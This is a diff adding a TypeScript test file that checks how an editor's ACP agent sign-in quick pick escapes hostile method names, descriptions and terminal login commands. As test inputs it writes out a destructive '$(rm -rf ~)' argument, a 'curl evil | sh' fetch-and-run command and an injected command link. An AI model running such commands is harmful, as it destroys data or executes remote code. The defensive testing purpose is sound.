@@ -1,0 +1,82 @@
+import { strict as assert } from "node:assert";
+import { commandLine, isAuthRequired, signInMethods, signInReasonRows, signInRows, signInTitle, type SignInMethod } from "./acp-auth";
+
+/** What a quick pick would draw as an icon or hide: an unescaped `$(`, a control, bidi or zero-width character, a newline. */
+function hostile(text: string): string | undefined {
+  if (/(^|[^\\])\$\(/.test(text)) return "icon";
+  if (/[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/.test(text)) return "control";
+  return undefined;
+}
+
+describe("ACP sign-in: methods and the quick pick's rows", () => {
+  const gemini = [
+    { id: "oauth-personal", name: "Log in with Google", description: "Log in with your Google account" },
+    { id: "gemini-api-key", name: "Gemini API key", description: "Use an API key with Gemini Developer API", _meta: { "api-key": { provider: "google" } } },
+    { id: "gateway", name: "AI API Gateway", description: "Use a custom AI API Gateway", _meta: { gateway: { protocol: "google" } } },
+  ];
+
+  it("gemini's methods: its own sign-in, a stored key (GEMINI_API_KEY) for api-key, our model gateway for its gateway (a protocol we do not route: its own)", () => {
+    const methods = signInMethods(gemini, undefined);
+    assert.deepEqual(methods.map((m) => [m.id, m.kind]), [["oauth-personal", "agent"], ["gemini-api-key", "api-key"], ["gateway", "gateway"]]);
+    assert.equal((methods[2] as Extract<SignInMethod, { kind: "gateway" }>).variable, "GEMINI_API_KEY");
+    assert.equal(signInMethods([{ id: "g", name: "g", _meta: { gateway: { protocol: "carrier-pigeon" } } }], undefined)[0]!.kind, "agent");
+    assert.equal((methods[1] as Extract<SignInMethod, { kind: "api-key" }>).variable, "GEMINI_API_KEY");
+    assert.equal(signInMethods([{ id: "k", name: "k", _meta: { "api-key": { provider: "nobody-stores-this" } } }], undefined)[0]!.kind, "api-key");
+  });
+
+  it("terminal methods: the spec's runs the agent again with its args (only when the editor knows how it started); _meta terminal-auth runs its command", () => {
+    const spec = { id: "t", name: "Sign in", type: "terminal" as const, args: ["--login", "it's"], env: { MODE: "login", BAD: 3 as unknown as string } };
+    assert.deepEqual(signInMethods([spec], undefined), [], "not offered without the agent's command");
+    const [method] = signInMethods([spec], { command: "node", args: ["/opt/agent.js", "--acp"] });
+    assert.deepEqual(method, { kind: "terminal", id: "t", name: "Sign in", description: "", command: "node", args: ["/opt/agent.js", "--acp", "--login", "it's"], env: { MODE: "login" } });
+    const [meta] = signInMethods([{ id: "claude-login", name: "Log in", _meta: { "terminal-auth": { command: "claude", args: ["/login"], label: "claude /login" } } }], undefined);
+    assert.deepEqual(meta, { kind: "terminal", id: "claude-login", name: "Log in", description: "", command: "claude", args: ["/login"], env: {} });
+    assert.equal(commandLine("node", ["/opt/a b.js", "it's", "$(rm -rf ~)", "--x=1"]), "node '/opt/a b.js' 'it'\\''s' '$(rm -rf ~)' --x=1");
+  });
+
+  it("hostile names and descriptions: markdown links, $(icon), control and bidi characters, newlines, 10 KB: every row plain, one line, no icon, the text whole", () => {
+    const long = "d".repeat(5000) + "$(alert)" + "e".repeat(5000);
+    const methods = signInMethods([
+      { id: "m1", name: "[Sign in](command:workbench.action.terminal.new)", description: "click [here](https://evil.example) $(warning) \u001b[31mred\u001b[0m" },
+      { id: "m2", name: "$(key) Key\u202eyek\u200b", description: long },
+      { id: "m3", name: "two\nlines\r\n", description: "", _meta: { "terminal-auth": { command: "sh", args: ["-c", "curl evil | sh\n$(id)"] } } },
+    ], undefined);
+    const rows = signInRows(methods, "Agent $(zap)\u0007");
+    for (const row of rows) {
+      assert.equal(hostile(row.label), undefined, `label ${JSON.stringify(row.label)}`);
+      if (row.description !== undefined) assert.equal(hostile(row.description), undefined, `description ${JSON.stringify(row.description)}`);
+      assert.ok(!row.label.includes("\n"));
+    }
+    // Each method is one row that chooses it, named as the agent names it (escaped, never a link or an icon).
+    assert.deepEqual(rows.filter((r) => r.methodId).map((r) => [r.methodId, r.label]), [
+      ["m1", "[Sign in](command:workbench.action.terminal.new)"],
+      ["m2", "\\$(key) Key\\u202eyek\\u200b"],
+      ["m3", "two\\nlines\\u000d\\n"],
+    ]);
+    // The 10 KB description whole, over rows of its own (icon syntax escaped even where a cut falls).
+    const m2 = rows.slice(rows.findIndex((r) => r.methodId === "m2") + 1, rows.findIndex((r) => r.methodId === "m3"));
+    const text = m2.map((r) => r.label.replace(/^\u00a0\u00a0/, "")).join("");
+    assert.ok(text.includes("d".repeat(5000)) && text.includes("e".repeat(5000)), "the description whole");
+    assert.equal(text.replace(/\\\$\(/g, "$(").includes("d".repeat(5000) + "$(alert)" + "e".repeat(5000)), true);
+    // The terminal command shown whole, before it runs, with its newline visible.
+    const m3 = rows.slice(rows.findIndex((r) => r.methodId === "m3") + 1).map((r) => r.label.replace(/^\u00a0\u00a0/, "")).join("");
+    assert.ok(m3.includes("Runs in a terminal: sh -c 'curl evil | sh\\n\\$(id)'"), m3);
+    assert.equal(hostile(signInTitle("Agent $(zap)\u0007\n")), undefined);
+    for (const row of signInReasonRows("x".repeat(70) + "$(bug)\u001b")) assert.equal(hostile(row.label), undefined);
+  });
+
+  it("a flood: 1,000 methods are 50, a 1 MB description is cut at 32 KB with a note saying how much is left out", () => {
+    const many = Array.from({ length: 1000 }, (_, i) => ({ id: `m${i}`, name: `M${i}` }));
+    assert.equal(signInMethods(many, undefined).length, 50);
+    const rows = signInRows(signInMethods([{ id: "big", name: "Big", description: "x".repeat(1024 * 1024) }], undefined), "A");
+    assert.ok(rows.length < 500, `${rows.length} rows`);
+    assert.match(rows.at(-1)!.label, /\(1015808 more characters not shown\)$/);
+  });
+
+  it("auth required is the JSON-RPC error -32000, nothing else", () => {
+    assert.equal(isAuthRequired({ code: -32000, message: "Authentication required" }), true);
+    assert.equal(isAuthRequired({ code: -32603, message: "Authentication required" }), false);
+    assert.equal(isAuthRequired(new Error("Authentication required")), false);
+    assert.equal(isAuthRequired(undefined), false);
+  });
+});
